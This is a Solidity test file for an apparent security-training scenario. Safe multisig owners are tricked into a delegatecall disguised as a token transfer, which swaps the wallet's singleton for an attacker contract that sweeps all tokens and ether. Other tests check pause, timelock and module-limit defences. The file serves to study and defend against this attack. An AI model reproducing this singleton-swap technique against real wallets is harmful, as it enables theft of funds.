// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {IAccessManager} from "@openzeppelin/contracts/access/manager/IAccessManager.sol";
import {Pausable} from "@openzeppelin/contracts/utils/Pausable.sol";
import {EvilSingleton} from "../src/range/EvilSingleton.sol";
import {EvilTransfer} from "../src/range/EvilTransfer.sol";
import {ManagedToken} from "../src/range/ManagedToken.sol";
import {RangeToken} from "../src/range/RangeToken.sol";
import {IModuleHost, SupplierPayments} from "../src/range/SupplierPayments.sol";
import {TreasuryFunder} from "../src/range/TreasuryFunder.sol";
import {RangeTest} from "./RangeTest.sol";

interface ISafe {
    function setup(
        address[] calldata owners,
        uint256 threshold,
        address to,
        bytes calldata data,
        address fallbackHandler,
        address paymentToken,
        uint256 payment,
        address payable paymentReceiver
    ) external;

    function execTransaction(
        address to,
        uint256 value,
        bytes calldata data,
        uint8 operation,
        uint256 safeTxGas,
        uint256 baseGas,
        uint256 gasPrice,
        address gasToken,
        address payable refundReceiver,
        bytes memory signatures
    ) external payable returns (bool);

    function getTransactionHash(
        address to,
        uint256 value,
        bytes calldata data,
        uint8 operation,
        uint256 safeTxGas,
        uint256 baseGas,
        uint256 gasPrice,
        address gasToken,
        address refundReceiver,
        uint256 nonce
    ) external view returns (bytes32);

    function approveHash(bytes32 hash) external;
    function enableModule(address module) external;
    function nonce() external view returns (uint256);
    function VERSION() external view returns (string memory);
}

/// @dev The set-up is scenarios/safe-singleton-swap/world.yaml in Solidity, number for number.
contract SafeSingletonSwapTest is RangeTest {
    uint64 private constant PAUSER = 1;
    uint64 private constant UNPAUSER = 2;
    uint32 private constant ONE_DAY = 86_400;
    address private constant RESPONDER = address(0x51);
    address private constant ATTACKER = address(0x53);
    address private constant BOOKKEEPER = address(0x57);
    address private constant SUPPLIER = address(0x58);

    RangeToken private usd;
    IAccessManager private manager;
    ManagedToken private token;
    ISafe private safe;
    SupplierPayments private payments;
    EvilTransfer private evilTransfer;
    EvilSingleton private evilSingleton;
    /// @dev In ascending order, as a Safe wants signatures.
    address[] private owners = [address(0x1001), address(0x1002), address(0x1003)];

    function setUp() public {
        usd = new RangeToken("Range Dollar", "RUSD", 6);
        manager = IAccessManager(
            deployNpm("@openzeppelin/contracts/build/contracts/AccessManager.json", abi.encode(address(this)))
        );
        token = new ManagedToken("Managed Dollar", "MUSD", usd, address(manager));
        bytes4[] memory selectors = new bytes4[](1);
        selectors[0] = ManagedToken.pause.selector;
        manager.setTargetFunctionRole(address(token), selectors, PAUSER);
        selectors[0] = ManagedToken.unpause.selector;
        manager.setTargetFunctionRole(address(token), selectors, UNPAUSER);
        manager.grantRole(PAUSER, RESPONDER, 0);
        manager.grantRole(UNPAUSER, address(this), ONE_DAY);

        string memory artifacts = "@safe-global/safe-contracts/build/artifacts/contracts/";
        address singleton = deployNpm(string.concat(artifacts, "Safe.sol/Safe.json"), "");
        safe = ISafe(
            deployNpm(string.concat(artifacts, "proxies/SafeProxy.sol/SafeProxy.json"), abi.encode(singleton))
        );
        safe.setup(owners, 3, address(0), "", address(0), address(0), 0, payable(address(0)));

        usd.mint(address(this), 9_000_000e6);
        usd.approve(address(token), 1e30);
        token.depositFor(address(safe), 9_000_000e6);
        TreasuryFunder funder = new TreasuryFunder();
        vm.deal(address(this), 500 ether);
        funder.fund{value: 500 ether}(payable(address(safe)));

        payments = new SupplierPayments(IModuleHost(address(safe)), token, BOOKKEEPER, SUPPLIER, 5000e6);
        ownersExecute(address(safe), abi.encodeCall(ISafe.enableModule, (address(payments))), 0);

        vm.startPrank(ATTACKER);
        evilTransfer = new EvilTransfer();
        evilSingleton = new EvilSingleton();
        vm.stopPrank();
    }

    /// @dev Pre-validated signatures: `r` is the owner, `v` is 1, and the owner has approved the hash.
    function ownersExecute(address to, bytes memory data, uint8 operation) private {
        bytes32 hash =
            safe.getTransactionHash(to, 0, data, operation, 0, 0, 0, address(0), address(0), safe.nonce());
        bytes memory signatures;
        for (uint256 i = 0; i < owners.length; ++i) {
            vm.prank(owners[i]);
            safe.approveHash(hash);
            signatures = bytes.concat(signatures, abi.encode(owners[i]), bytes32(0), bytes1(uint8(1)));
        }
        vm.prank(owners[0]);
        safe.execTransaction(to, 0, data, operation, 0, 0, 0, address(0), payable(address(0)), signatures);
    }

    function swapSingleton() private {
        bytes memory data = abi.encodeCall(EvilTransfer.transfer, (address(evilSingleton), 0));
        ownersExecute(address(evilTransfer), data, 1);
    }

    function sweepToken(uint256 amount) private {
        vm.prank(ATTACKER);
        EvilSingleton(payable(address(safe))).sweepERC20(token, ATTACKER, amount);
    }

    function sweepEther() private {
        vm.prank(ATTACKER);
        EvilSingleton(payable(address(safe))).sweepETH(payable(ATTACKER), 500 ether);
    }

    function slot0() private view returns (address) {
        return address(uint160(uint256(vm.load(address(safe), 0))));
    }

    function test_world_starts_sound() public view {
        assertEq(uint256(keccak256(bytes(safe.VERSION()))), uint256(keccak256("1.4.1")), "version");
        assertEq(token.balanceOf(address(safe)), 9_000_000e6, "tokens");
        assertEq(address(safe).balance, 500 ether, "ether");
        assertEq(token.decimals(), 6, "decimals");
        assertEq(safe.nonce(), 1, "nonce");
    }

    function test_swap_looks_like_a_transfer_and_replaces_the_singleton() public {
        bytes memory data = abi.encodeCall(EvilTransfer.transfer, (address(evilSingleton), 0));
        assertEq(uint32(bytes4(data)), 0xa9059cbb, "selector");
        swapSingleton();
        assertEq(uint160(slot0()), uint160(address(evilSingleton)), "slot 0");
        assertEq(token.balanceOf(address(safe)), 9_000_000e6, "nothing has left yet");
    }

    function test_sweep_takes_everything() public {
        swapSingleton();
        sweepEther();
        for (uint256 i = 0; i < 8; ++i) {
            sweepToken(1_125_000e6);
        }
        assertEq(token.balanceOf(ATTACKER), 9_000_000e6, "tokens");
        assertEq(ATTACKER.balance, 500 ether, "ether");
    }

    function test_paused_token_cannot_be_swept_but_ether_can() public {
        swapSingleton();
        vm.prank(RESPONDER);
        token.pause();
        sweepEther();
        assertEq(ATTACKER.balance, 500 ether, "ether");
        vm.prank(ATTACKER);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        EvilSingleton(payable(address(safe))).sweepERC20(token, ATTACKER, 1);
        assertEq(token.balanceOf(address(safe)), 9_000_000e6, "tokens kept");
    }

    function test_paused_token_cannot_be_redeemed_either() public {
        swapSingleton();
        sweepToken(10e6);
        vm.prank(RESPONDER);
        token.pause();
        vm.prank(ATTACKER);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        token.redeem(10e6);
    }

    function test_swept_safe_obeys_the_thief_only() public {
        swapSingleton();
        vm.expectRevert(EvilSingleton.NotTheThief.selector);
        EvilSingleton(payable(address(safe))).sweepERC20(token, address(this), 1);
        vm.expectRevert(EvilSingleton.NotTheThief.selector);
        EvilSingleton(payable(address(safe))).sweepETH(payable(address(this)), 1);
    }

    function test_responder_pauses_at_once_but_cannot_unpause() public {
        vm.startPrank(RESPONDER);
        token.pause();
        vm.expectRevert();
        token.unpause();
        vm.stopPrank();
    }

    function test_unpause_waits_a_day() public {
        vm.prank(RESPONDER);
        token.pause();
        bytes memory call = abi.encodeCall(ManagedToken.unpause, ());
        vm.expectRevert();
        manager.execute(address(token), call);
        manager.schedule(address(token), call, 0);
        vm.warp(block.timestamp + ONE_DAY);
        manager.execute(address(token), call);
        require(!token.paused(), "still paused");
    }

    function test_bookkeeper_pays_small_sums_without_the_nonce() public {
        uint256 nonce = safe.nonce();
        vm.prank(BOOKKEEPER);
        payments.pay(5000e6);
        assertEq(token.balanceOf(SUPPLIER), 5000e6, "paid");
        assertEq(safe.nonce(), nonce, "nonce");

        vm.prank(BOOKKEEPER);
        vm.expectPartialRevert(SupplierPayments.OverTheLimit.selector);
        payments.pay(5001e6);
        vm.expectRevert(SupplierPayments.NotTheBookkeeper.selector);
        payments.pay(1);
    }

    function test_users_mint_and_redeem() public {
        address user = account("user", 0);
        usd.mint(user, 100e6);
        vm.startPrank(user);
        usd.approve(address(token), 1e30);
        token.mint(100e6);
        token.transfer(SUPPLIER, 40e6);
        token.redeem(60e6);
        vm.stopPrank();
        assertEq(usd.balanceOf(user), 60e6, "redeemed");
    }
}
